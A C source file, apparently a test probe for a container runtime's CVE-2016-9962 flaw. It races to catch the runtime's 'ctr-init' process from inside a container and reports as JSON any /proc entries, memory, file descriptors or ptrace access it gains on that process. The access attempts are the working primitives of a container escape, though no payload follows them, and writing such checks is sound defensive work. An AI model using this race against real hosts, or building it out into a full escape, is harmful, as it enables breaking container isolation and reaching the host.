// Root in a container who waits for the launcher's own process to appear beside it, to reach the host through that
// (CVE-2016-9962): opens what /proc shows of every other process for as many seconds as it is told, and prints as a JSON list what
// it got hold of while the process was still the launcher's, which calls itself ctr-init.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int seen, found;

static int is_launcher(int pid) {
  char path[64], name[32] = "";
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  ssize_t n = read(fd, name, sizeof name - 1);
  close(fd);
  return n > 0 && !strncmp(name, "ctr", 3);
}

static void report(const char *what, const char *more) { printf("%s\"%s %s\"", found++ ? "," : "", what, more); }

static void try_open(int pid, const char *file, int flags) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
  int fd = open(path, flags | O_CLOEXEC);
  if (fd < 0) return;
  // The name is looked at last: it may have become the program in between, which the container may look into.
  char byte;
  ssize_t n = read(fd, &byte, 1);
  if ((n == 1 || (n < 0 && errno == EIO)) && is_launcher(pid)) report("opened", file);
  close(fd);
}

static void try_link(int pid, const char *file) {
  char path[300], target[512];
  snprintf(path, sizeof path, "/proc/%d/%s", pid, file);
  ssize_t n = readlink(path, target, sizeof target - 1);
  if (n < 0 || !is_launcher(pid)) return;
  target[n] = 0;
  report(file, target);
}

static void try_all(int pid) {
  static const char *const files[] = {"mem", "maps", "environ", "auxv", "stack", "syscall", "io"};
  static const char *const links[] = {"exe", "root", "cwd", "ns/mnt", "ns/user"};
  char path[64];
  for (size_t i = 0; i < sizeof links / sizeof *links; i++) try_link(pid, links[i]);
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) try_open(pid, files[i], O_RDONLY);
  try_open(pid, "mem", O_RDWR);
  snprintf(path, sizeof path, "/proc/%d/fd", pid);
  DIR *d = opendir(path);
  // The numbers alone are worth nothing; what they lead to is.
  for (struct dirent *e; d && (e = readdir(d));) {
    snprintf(path, sizeof path, "fd/%.20s", e->d_name);
    if (*e->d_name != '.') try_link(pid, path);
  }
  if (d) closedir(d);
  // Nor by its pidfd: the standard streams, and what a launcher keeps above them.
  int pidfd = syscall(SYS_pidfd_open, pid, 0);
  for (int n = 0; pidfd >= 0 && n < 64; n++) {
    int copy = syscall(SYS_pidfd_getfd, pidfd, n, 0);
    if (copy < 0) continue;
    if (is_launcher(pid)) report("took", "descriptor");
    close(copy);
  }
  if (pidfd >= 0) close(pidfd);
  // One that follows us into its end would hold the container up.
  if (ptrace(PTRACE_SEIZE, pid, 0, PTRACE_O_EXITKILL) == 0) {
    if (is_launcher(pid)) report("traced", "it");
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

int main(int argc, char **argv) {
  struct timespec now;
  time_t end;
  clock_gettime(CLOCK_MONOTONIC, &now);
  end = now.tv_sec + (argc > 1 ? atoi(argv[1]) : 1);
  printf("{\"found\":[");
  while (clock_gettime(CLOCK_MONOTONIC, &now), now.tv_sec < end) {
    DIR *d = opendir("/proc");
    for (struct dirent *e; d && (e = readdir(d));) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid() || !is_launcher(pid)) continue;
      seen++;
      try_all(pid);
    }
    if (d) closedir(d);
  }
  printf("],\"seen\":%d}\n", seen);
  return 0;
}
